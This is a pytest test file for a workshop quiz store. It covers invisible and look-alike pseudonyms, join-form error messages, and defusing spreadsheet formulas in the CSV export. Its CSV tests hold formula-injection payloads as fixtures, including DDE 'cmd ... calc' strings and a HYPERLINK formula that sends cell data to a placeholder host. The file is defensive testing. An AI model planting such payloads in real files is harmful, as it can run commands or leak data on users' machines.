"""Small bad inputs to the workshop store (issue 12 item 7): pseudonyms made only of invisible
characters are refused, look-alike pseudonyms are one participant, and no cell of the CSV
export is read as a formula by a spreadsheet (also when it splits lines on ';')."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from aiact_kit.engines import events
from aiact_kit.engines import workshop as st
from aiact_kit.engines.workshop import (
    InvalidPseudonym,
    NicknameTaken,
    ResultsStore,
    StoreUnavailable,
    pseudonym_key,
)
from aiact_kit.engines.workshop.reports import _csv_safe
from aiact_kit.widgets import workshop as ws
from aiact_kit.widgets.workshop import join as ws_join

# -- pseudonyms: visible, and look-alikes are one person --------------------------------------
INVISIBLE = [
    "\u200b",  # zero-width space
    "\u200b\u200c\u200d",  # zero-width space, non-joiner, joiner
    "\u2060\ufeff",  # word joiner, byte order mark
    "\u00ad",  # soft hyphen
    " \u200b ",  # white space around a zero-width space
    "\u0301",  # a combining accent on nothing
    "\u0301\u0308\u20dd",  # combining marks only (acute, diaeresis, enclosing circle)
    "\u3164\u115f",  # Hangul fillers (letters that show nothing)
    "\u2800\u2800",  # blank Braille patterns
    "\ufe0f\U000e0041",  # a variation selector and a tag character
    "\u180e\u034f",  # Mongolian vowel separator, combining grapheme joiner
    "\ue000",  # a private-use character (no agreed glyph)
]
STILL_ALLOWED = [
    "🦊🧑‍💻",  # emoji with a zero-width joiner
    "❤️",  # emoji with a variation selector
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",  # a flag made with tag characters
    "José",  # precomposed
    "Jose\u0301",  # combining accent on a letter
    "日本",
    "٣",  # Arabic-Indic digit
    "-",  # a visible punctuation mark is enough
    "نیم\u200cفاصله",  # Persian with a zero-width non-joiner inside
]


@pytest.mark.parametrize("name", INVISIBLE)
def test_invisible_only_pseudonym_is_refused(store, name):
    code, token = store.create_session("T", "nl")
    with pytest.raises(InvalidPseudonym) as err:
        store.join(code, name)
    assert err.value.reason == "invisible"
    assert "at least one visible" in str(err.value)
    assert store.participants(code, token) == []


def test_white_space_only_is_still_empty():
    for name in ("\u3000", "\u00a0 \u2003"):
        with pytest.raises(InvalidPseudonym) as err:
            st.validate_pseudonym(name)
        assert err.value.reason == "empty"


@pytest.mark.parametrize("name", STILL_ALLOWED)
def test_visible_pseudonyms_are_still_allowed_and_stored_as_typed(store, name):
    code, token = store.create_session("T", "nl")
    store.join(code, name)
    assert [p.pseudonym for p in store.participants(code, token)] == [name]


LOOK_ALIKES = [
    "jan",
    "JAN",
    " Jan ",
    "Ｊａｎ",  # fullwidth
    "ｊＡｎ",
    "Jan\u200b",  # trailing zero-width space
    "\u2060J\u200dan",  # word joiner, zero-width joiner inside
    "J\u00adan",  # soft hyphen
    "\ufeffJAN\ufe0f",  # byte order mark, variation selector
    "Jan\u2800",  # blank Braille pattern
]


def test_look_alike_pseudonyms_are_one_nickname(store):
    code, token = store.create_session("T", "nl")
    joined = store.enter(code, "Jan")
    first = joined.participant_id
    for name in LOOK_ALIKES:  # taken: refused without the rejoin code, the same person with it
        with pytest.raises(NicknameTaken):
            store.join(code, name)
        assert store.join(code, name, joined.rejoin_code) == first, repr(name)
    assert [p.pseudonym for p in store.participants(code, token)] == ["Jan"]
    # different names stay different, including letters of another script that look alike
    others = ["Jän", "J an", "Jaan", "J\u0430n"]  # the last has a Cyrillic 'а'
    ids = {store.join(code, name) for name in others}
    assert len(ids) == len(others) and first not in ids


def test_pseudonym_key_normalises_compatibility_forms():
    assert {pseudonym_key(n) for n in LOOK_ALIKES} == {"jan"}
    assert pseudonym_key("ﬁne") == pseudonym_key("FINE") == "fine"  # ligature
    assert pseudonym_key("Straße") == pseudonym_key("STRASSE")  # case folding, not lower()
    assert pseudonym_key("Ａ\u3000Ｂ") == "a b"  # ideographic space is a space


def test_participant_of_an_older_kit_keeps_its_nickname(store):
    """A name stored before schema 4 (earlier key, no rejoin code) stays taken: nobody else
    takes it over, not even under its earlier key."""
    code, token = store.create_session("T", "nl")
    conn = store._conn()
    sid = store._q(conn, "SELECT id FROM sessions WHERE code = ?", (code,)).fetchone()[0]
    store._q(
        conn,
        "INSERT INTO participants (session_id, pseudonym, pseudonym_key, joined) "
        "VALUES (?, ?, ?, ?)",
        (sid, "Jan\u200b", "jan\u200b", "2026-01-01T10:00:00+00:00"),
    )
    for name in ("Jan\u200b", "jan"):
        with pytest.raises(NicknameTaken):
            store.join(code, name)
    assert len(store.participants(code, token)) == 1


# -- the join form: refusals and lost answers are told ----------------------------------------
@pytest.fixture
def db(tmp_path):
    return str(tmp_path / "results.sqlite")


@pytest.fixture
def session(db):
    with ResultsStore(db) as s:
        code, token = s.create_session("T", "nl")
    return code, token


@pytest.fixture(autouse=True)
def _no_active_join():
    yield
    if ws_join._active_join is not None:
        ws_join._active_join.close()


@pytest.mark.parametrize(("lang", "words"), [("nl", "zichtbare letter"), ("en", "visible letter")])
def test_join_form_says_why_an_invisible_pseudonym_is_refused(db, session, lang, words):
    w = ws.JoinSession(lang=lang, db=db)
    w.code.value, w.pseudonym.value = session[0], "\u200b\u200d"
    assert w.join() is False
    assert words in w.status.value and "aiact-ws-error" in w.status.value
    assert "stuurtekens" not in w.status.value and "control" not in w.status.value


PAYLOAD = {
    "question_id": "q-timeline-annex-iii-date",
    "answer": "annex-iii-high-risk",
    "correct": True,
    "score": 1.0,
    "attempt": 1,
    "topic": "timeline",
    "quiz_id": "timeline",
}


@pytest.mark.parametrize(
    ("error", "reason"),
    [
        (StoreUnavailable("database is locked"), "niet bereikbaar"),
        (RuntimeError("disk I/O error"), "Er ging iets mis"),
    ],
)
def test_an_answer_that_was_not_saved_is_told_where_the_learner_is(db, session, error, reason):
    w = ws.JoinSession(lang="nl", db=db)
    w.code.value, w.pseudonym.value = session[0], "Anna"
    assert w.join()
    store = w._get_store()
    real = store.record_event

    def failing(pid, payload):
        raise error

    store.record_event = failing
    assert events.emit("answer", PAYLOAD) == []  # shown, not raised into the quiz
    for shown in (w.status.value, w.save_status.value):
        assert "je laatste antwoord is niet opgeslagen" in shown and reason in shown
        assert "aiact-ws-error" in shown
    assert "aiact-ws-save" in w.save_status._dom_classes  # sticks to the window's bottom
    assert w.save_status in w.children
    # the next answer is stored: the warning below the quiz goes away
    store.record_event = real
    events.emit("answer", {**PAYLOAD, "attempt": 2})
    assert "opgeslagen (1 vraag beantwoord)" in w.status.value and w.save_status.value == ""


def test_a_refused_answer_says_it_was_not_saved_in_english(db):
    with ResultsStore(db) as s:
        code, _ = s.create_session("T", "en")
    w = ws.JoinSession(lang="en", db=db)
    w.code.value, w.pseudonym.value = code, "Anna"
    assert w.join()
    events.emit("answer", {**PAYLOAD, "attempt": 0})  # invalid: refused by the store
    assert "could not be saved" in w.status.value and "could not be saved" in w.save_status.value


# -- CSV export: no cell is a formula ---------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "-1+2",
    "@SUM(1)",
    "+1",
    "-1",
    "=1+1",
    "\uff1d1+1",  # fullwidth equals sign
    "-2+3+cmd|' /C calc'!A0",
]
FORMULA_START = re.compile(r"^[ \u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def _formula_cells(text: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet reading ``text`` with ``delimiter`` would treat as formulas."""
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    return [cell for row in rows for cell in row if FORMULA_START.match(cell)]


def test_csv_export_has_no_formula_cell(store):
    code, token = store.create_session("T", "nl")
    pid = store.join(code, "=cmd|' /C calc'!A0")  # pseudonyms are never exported anyway
    for attempt, text in enumerate(FORMULAS, start=1):
        store.record_answer(pid, text, text, False, topic=text, quiz_id=text)
        store.record_answer(pid, "q-free", f"ok;{text}", True, score=0.5, attempt=attempt)
    store.record_answer(pid, "q-number", -1, False)  # the answer JSON is the text "-1"
    store.record_answer(pid, "q-semicolon", 'a; -1+2;"=1', False)
    text = store.export_csv(code, token)
    assert _formula_cells(text, ",") == []
    assert _formula_cells(text, ";") == []  # Dutch Excel splits lines on ';'
    assert _formula_cells(text, "\t") == []
    rows = list(csv.DictReader(io.StringIO(text)))
    by_question = {r["question_id"]: r for r in rows}
    for formula in FORMULAS:
        row = by_question["'" + formula]  # shown as text, the original after the quote mark
        assert row["topic"] == row["quiz_id"] == "'" + formula
        assert row["answer"] == json.dumps(formula, ensure_ascii=False)  # starts with '"'
    assert by_question["q-number"]["answer"] == "'-1"  # a negative number in text is text
    # numbers the export makes itself stay numbers
    for row in rows:
        assert row["participant"] == "1" and row["attempt"].isdigit()
        assert row["correct"] in ("0", "1") and float(row["score"]) in (0.0, 0.5)


def test_csv_safe_defuses_formulas_after_blanks_and_separators():
    assert _csv_safe(" =1+1") == "' =1+1"
    assert _csv_safe("\u3000@SUM(1)") == "'\u3000@SUM(1)"
    assert _csv_safe("ja;=1+1") == "ja;'=1+1"
    assert _csv_safe('ja; "-1+2') == "ja; \"'-1+2"
    assert _csv_safe("ja, -1") == "ja, -1"  # a comma splits nothing: the field is quoted


def test_csv_safe_leaves_numbers_and_plain_text_alone():
    for value in (0, 1, 0.5, 2.0, "Anna", "2026-05-01T10:00:00+00:00", "a-1", "K7M2QX", ""):
        assert _csv_safe(value) == value
